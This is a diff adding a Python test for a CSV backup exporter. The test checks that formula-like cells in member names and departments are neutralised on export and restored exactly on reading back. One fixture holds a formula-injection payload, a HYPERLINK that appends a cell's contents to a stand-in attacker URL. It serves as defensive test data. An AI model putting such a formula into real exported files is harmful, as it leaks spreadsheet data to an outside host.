@@ -221,6 +221,25 @@ def test_fifty_thousand_rows_in_seconds() -> None:
     assert elapsed < 10, elapsed
 
 
+def test_a_backup_never_hands_a_spreadsheet_a_formula_and_still_reads_back() -> None:
+    """Names come from members' profiles and HiBob's departments: a cell a spreadsheet would
+    run (``=HYPERLINK(...)``) is written inert, and restoring gives the name back as it was."""
+    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = [
+        ("ana@x.test", "+1 555 Ana", link),
+        ("ben@x.test", "-Ben", "@ops > On call"),
+        ("cy@x.test", "'quoted' Cy", "'=already inert"),
+        ("di@x.test", "Di", "Plain > Team"),
+    ]
+    text = export_csv(rows)
+    cells = [line.split(",", 1)[1] for line in text.splitlines()[1:]]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert "\n".join(text.splitlines()[1:]).count(",'") == 5  # every risky cell, made inert
+    assert ',"\'=HYPERLINK(""http' in text  # and the quoted one too
+    back = parse_backup(text.encode())
+    assert [(r.email, r.name, r.group) for r in back] == rows
+
+
 def test_a_backup_reads_back_exactly_what_was_written() -> None:
     rows = [
         ("ana@x.test", 'Ana "the boss" Silva', "Eng > Core"),
